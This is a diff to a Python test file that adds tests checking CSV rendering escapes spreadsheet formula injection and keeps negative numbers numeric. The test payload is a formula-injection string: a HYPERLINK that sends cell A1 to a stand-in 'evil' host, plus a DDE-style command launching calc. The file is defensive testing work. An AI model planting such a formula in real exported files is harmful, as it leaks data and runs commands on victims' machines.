@@ -7,9 +7,10 @@ import io
 
 import pytest
 
+from polybench.render import csv as csv_format
 from polybench.render import render
 from polybench.render.study import STEP_TIMES
-from polybench.render.table import one_line
+from polybench.render.table import Records, one_line
 from polybench.schema.metrics import METRICS, Metric
 from tests.factories import measured, study, typical_study, unmeasured
 from tests.render.malicious_inputs import MALICIOUS_TEXT, malicious_study
@@ -115,3 +116,19 @@ def test_malicious_texts_stay_in_their_fields() -> None:
     assert {one["study"] for one in found} == {one_line(MALICIOUS_TEXT)}
     assert {len(one) for one in found} == {15}
     assert None not in {key for one in found for key in one}
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " +", "＝"])  # noqa: RUF001 - full width
+@pytest.mark.parametrize("format", ["csv", "csv-long"])
+def test_no_text_is_a_formula_for_a_spreadsheet(columns: list[Metric], start: str, format: str) -> None:
+    attack = start + "HYPERLINK(\"http://evil\"&A1)|' /C calc'!A0"
+    document = study(unmeasured("tf/cpu", "failed", attack, attack))
+    document.id = attack
+    cells = [cell for row in csv.reader(io.StringIO(render(document, format, columns=columns))) for cell in row]
+    assert [cell for cell in cells if "HYPERLINK" in cell]
+    assert not [cell for cell in cells if cell.strip().startswith(tuple("=+-@＝"))]  # noqa: RUF001
+
+
+def test_negative_numbers_stay_numbers() -> None:
+    rows = [[-1.5, "-1.5e-3", "-1+1", True, None]]
+    assert csv_format.render(Records("abcde", rows)) == "a,b,c,d,e\n-1.5,-1.5e-3,'-1+1,true,\n"
